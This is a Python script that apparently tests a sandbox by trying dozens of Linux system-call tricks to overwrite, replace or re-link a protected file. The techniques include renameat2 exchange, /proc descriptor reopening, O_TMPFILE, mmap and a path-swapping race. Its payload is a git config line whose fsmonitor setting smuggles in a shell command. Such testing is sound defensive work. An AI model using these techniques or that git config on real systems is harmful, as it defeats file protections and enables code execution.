# SPDX-License-Identifier: Apache-2.0
"""Ways to change a file, or to take its name, by calls that few programs make. Started inside with the file's name; prints what each said.

With a second word, outside of any sandbox: prints the names of those that changed it, each tried on a copy of this directory."""
import ctypes
import errno
import fcntl
import hashlib
import os
import platform
import shutil
import socket
import struct
import subprocess
import sys
import threading

LIBC = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
LINKAT, FALLOCATE, RENAMEAT2, COPY_FILE_RANGE, NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = (265, 285, 316, 326, 303, 304) if X86 else (37, 47, 276, 285, 264, 265)
OPEN_TREE, OPENAT2, MOUNT_SETATTR, FCHMODAT2 = 428, 437, 442, 452
AT_FDCWD, AT_EMPTY_PATH = -100, 0x1000
EVIL = b'[core]\n\tfsmonitor = "touch PWN; false"\n'
TARGET = sys.argv[1] if __name__ == "__main__" else ""
DIRECTORY, NAME = os.path.dirname(TARGET) or ".", os.path.basename(TARGET)
WAYS = {}


def way(function):
    WAYS[function.__name__] = function
    return function


def call(number, *arguments):
    found = LIBC.syscall(ctypes.c_long(number), *arguments)
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return found


def text(path):
    return ctypes.c_char_p(os.fsencode(path))


def evil():
    with open("evil", "wb") as file:
        file.write(EVIL)


def write(path, flags=os.O_WRONLY | os.O_CREAT | os.O_TRUNC):
    file = os.open(path, flags, 0o644)
    os.write(file, EVIL)
    os.close(file)


def opened(path, flags, resolve=0, directory=AT_FDCWD):
    os.write(call(OPENAT2, directory, text(path), struct.pack("QQQ", flags, 0o644 if flags & os.O_CREAT else 0, resolve), 24), EVIL)


def away():
    try:
        os.unlink(TARGET)
    except OSError:
        pass


FRESH = os.O_WRONLY | os.O_CREAT | os.O_TRUNC
SIMPLE = {
    "exchange": lambda: (evil(), call(RENAMEAT2, AT_FDCWD, text("evil"), AT_FDCWD, text(TARGET), 2)),
    "exchange back": lambda: (evil(), call(RENAMEAT2, AT_FDCWD, text(TARGET), AT_FDCWD, text("evil"), 2)),
    "rename": lambda: (evil(), os.rename("evil", TARGET)),
    "rename without replacing": lambda: (evil(), away(), call(RENAMEAT2, AT_FDCWD, text("evil"), AT_FDCWD, text(TARGET), 1)),
    "rename in a directory": lambda: (evil(), os.rename("evil", NAME, dst_dir_fd=os.open(DIRECTORY, os.O_PATH))),
    "another name": lambda: (os.link(TARGET, "alias"), write("alias", os.O_WRONLY | os.O_APPEND)),
    "another name of a descriptor": lambda: (os.link(f"/proc/self/fd/{os.open(TARGET, os.O_RDONLY)}", "alias"), write("alias", os.O_WRONLY | os.O_APPEND)),
    "a descriptor again": lambda: write(f"/proc/self/fd/{os.open(TARGET, os.O_RDONLY)}", os.O_WRONLY | os.O_TRUNC),
    "a path's descriptor again": lambda: write(f"/proc/self/fd/{os.open(TARGET, os.O_PATH)}", os.O_WRONLY | os.O_TRUNC),
    "/dev/fd": lambda: write(f"/dev/fd/{os.open(TARGET, os.O_RDONLY)}", os.O_WRONLY | os.O_TRUNC),
    "a directory's descriptor": lambda: write(f"/proc/self/fd/{os.open(DIRECTORY, os.O_PATH)}/{NAME}"),
    "/proc/self/root": lambda: write("/proc/self/root" + os.path.abspath(TARGET)),
    "/proc/self/cwd": lambda: write("/proc/self/cwd/" + TARGET),
    "/proc/thread-self/cwd": lambda: write("/proc/thread-self/cwd/" + TARGET),
    "/proc/PPID/cwd": lambda: write(f"/proc/{os.getppid()}/cwd/{TARGET}"),
    "a task's root": lambda: write(f"/proc/self/task/{os.getpid()}/root{os.path.abspath(TARGET)}"),
    "openat2": lambda: opened(TARGET, FRESH),
    "openat2 beneath": lambda: opened(TARGET, FRESH, 8),
    "openat2 in a root": lambda: opened("/" + TARGET, FRESH, 16, os.open(".", os.O_PATH)),
    "openat2 cached": lambda: (os.path.exists(TARGET), opened(TARGET, os.O_WRONLY | os.O_APPEND, 32)),
    "truncate": lambda: os.truncate(TARGET, 1),
    "fallocate": lambda: call(FALLOCATE, os.open(TARGET, os.O_WRONLY), 0, 0, 4096),
    "copy_file_range": lambda: (evil(), call(COPY_FILE_RANGE, os.open("evil", os.O_RDONLY), None, os.open(TARGET, os.O_WRONLY), None, 30, 0)),
    "FICLONE": lambda: (evil(), fcntl.ioctl(os.open(TARGET, os.O_WRONLY), 0x40049409, os.open("evil", os.O_RDONLY))),
    "sendfile": lambda: (evil(), os.sendfile(os.open(TARGET, os.O_WRONLY), os.open("evil", os.O_RDONLY), 0, 30)),
    "setxattr": lambda: os.setxattr(TARGET, "user.evil", b"x"),
    "fsetxattr": lambda: os.setxattr(os.open(TARGET, os.O_RDONLY), "user.evil", b"x"),
    "chmod": lambda: os.chmod(TARGET, 0o777),
    "fchmod": lambda: os.fchmod(os.open(TARGET, os.O_RDONLY), 0o777),
    "fchmodat2": lambda: call(FCHMODAT2, os.open(TARGET, os.O_PATH), text(""), 0o777, AT_EMPTY_PATH),
    "unlink": lambda: os.unlink(TARGET),
    "its directory away": lambda: (os.rename(DIRECTORY, "gone"), os.mkdir(DIRECTORY), write(TARGET)),
    "its directory away and back": lambda: (os.rename(DIRECTORY, "gone"), write("gone/" + NAME), os.rename("gone", DIRECTORY)),
    "a link for its directory": lambda: (os.rename(DIRECTORY, "gone"), os.mkdir("mine"), write("mine/" + NAME), os.symlink("mine", DIRECTORY)),
    "mknod": lambda: (away(), os.mknod(TARGET, 0o100644), write(TARGET)),
    "mkfifo": lambda: (away(), os.mkfifo(TARGET)),
    "a socket": lambda: (away(), socket.socket(socket.AF_UNIX).bind(TARGET)),
    "a link": lambda: (away(), os.symlink("evil", TARGET)),
    "open_tree": lambda: write(f"/proc/self/fd/{call(OPEN_TREE, AT_FDCWD, text(TARGET), 0)}", os.O_WRONLY | os.O_TRUNC),
    "open_tree, cloned": lambda: write(f"/proc/self/fd/{call(OPEN_TREE, AT_FDCWD, text(TARGET), 1)}", os.O_WRONLY | os.O_TRUNC),
    "mount_setattr": lambda: (call(MOUNT_SETATTR, AT_FDCWD, text(TARGET), 0, struct.pack("QQQQ", 0, 1, 0, 0), 32), write(TARGET)),
    "umount": lambda: (LIBC.umount2(os.fsencode(TARGET), 2), write(TARGET)),
    "dots": lambda: (os.makedirs("x", exist_ok=True), write("x/../" + TARGET)),
    "a link to its directory": lambda: (os.symlink(os.path.abspath(DIRECTORY), "ln"), write("ln/" + NAME)),
    "a link to it": lambda: (os.symlink(os.path.abspath(TARGET), "ln"), write("ln")),
    "links over /proc": lambda: (os.symlink("ln2", "ln"), os.symlink("/proc/self/cwd/" + TARGET, "ln2"), write("ln")),
    "from its directory": lambda: (os.chdir(DIRECTORY), write(NAME)),
    "from its directory's descriptor": lambda: (os.fchdir(os.open(DIRECTORY, os.O_PATH)), write(NAME)),
    "dd": lambda: subprocess.run(["dd", "of=" + TARGET, "conv=notrunc", "status=none"], input=EVIL, stderr=subprocess.DEVNULL, check=True),
    "cp": lambda: (evil(), subprocess.run(["cp", "--remove-destination", "evil", TARGET], stderr=subprocess.DEVNULL, check=True)),
    "ln": lambda: (evil(), subprocess.run(["ln", "-sf", os.path.abspath("evil"), TARGET], stderr=subprocess.DEVNULL, check=True)),
}
WAYS.update(SIMPLE)


@way
def exchange_directories():
    os.mkdir("mine")
    write("mine/" + NAME)
    call(RENAMEAT2, AT_FDCWD, text("mine"), AT_FDCWD, text(DIRECTORY), 2)


@way
def nameless():
    file = os.open(DIRECTORY, os.O_TMPFILE | os.O_RDWR, 0o644)
    os.write(file, EVIL)
    away()
    os.link(f"/proc/self/fd/{file}", TARGET)


@way
def nameless_by_descriptor():
    file = os.open(".", os.O_TMPFILE | os.O_RDWR, 0o644)
    os.write(file, EVIL)
    away()
    call(LINKAT, file, text(""), AT_FDCWD, text(TARGET), AT_EMPTY_PATH)


@way
def mapped():
    LIBC.mmap.restype = ctypes.c_void_p
    place = LIBC.mmap(None, ctypes.c_size_t(4096), 3, 1, os.open(TARGET, os.O_RDWR), 0)
    ctypes.memmove(place, b"EVIL", 4)


@way
def by_handle():
    handle, mount = ctypes.create_string_buffer(struct.pack("II", 128, 0) + bytes(128)), ctypes.c_int()
    call(NAME_TO_HANDLE_AT, AT_FDCWD, text(TARGET), handle, ctypes.byref(mount), 0)
    os.write(call(OPEN_BY_HANDLE_AT, os.open(".", os.O_RDONLY), handle, os.O_RDWR), EVIL)


@way
def name_flips_in_memory():
    """Judged by one name, opened by another?"""
    open("fine", "w").close()
    names = [os.path.abspath(name).encode() + b"\0" for name in ("fine", TARGET)]
    place, over = ctypes.create_string_buffer(names[0], 4096), []

    def flip():
        while not over:
            for name in names:
                ctypes.memmove(place, name, len(name))
    thread = threading.Thread(target=flip)
    thread.start()
    for _ in range(500):
        file = LIBC.open(place, os.O_WRONLY | os.O_APPEND)
        if file >= 0:
            os.write(file, EVIL)
            os.close(file)
    over.append(True)
    thread.join()


def state(path):
    """Of the file, and of what its name is."""
    try:
        found = os.lstat(path)
        content = hashlib.sha256(open(path, "rb").read()).hexdigest() if os.path.isfile(path) else ""
        return found.st_mode, found.st_nlink, content, os.listxattr(path, follow_symlinks=False)
    except OSError as why:
        return why.errno


def try_way(name):
    child = os.fork()
    if child == 0:
        try:
            WAYS[name]()
            os._exit(0)
        except OSError as why:
            os._exit(why.errno or errno.EPERM)
        except BaseException:  # a tool that failed
            os._exit(255)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


def main():
    top = os.getcwd()
    before = state(TARGET)
    for name in WAYS:
        if len(sys.argv) > 2:
            shutil.copytree(".", "../copy", symlinks=True)
            os.chdir("../copy")
        said = try_way(name)
        if len(sys.argv) > 2:
            if state(TARGET) != before:
                print(name)
            os.chdir(top)
            shutil.rmtree("../copy")
        else:
            print(f"{name}: {said}")
            for left in ("evil", "alias", "ln", "ln2", "fine"):
                if os.path.lexists(left):
                    os.unlink(left)
            shutil.rmtree("mine", ignore_errors=True)


if __name__ == "__main__":
    main()
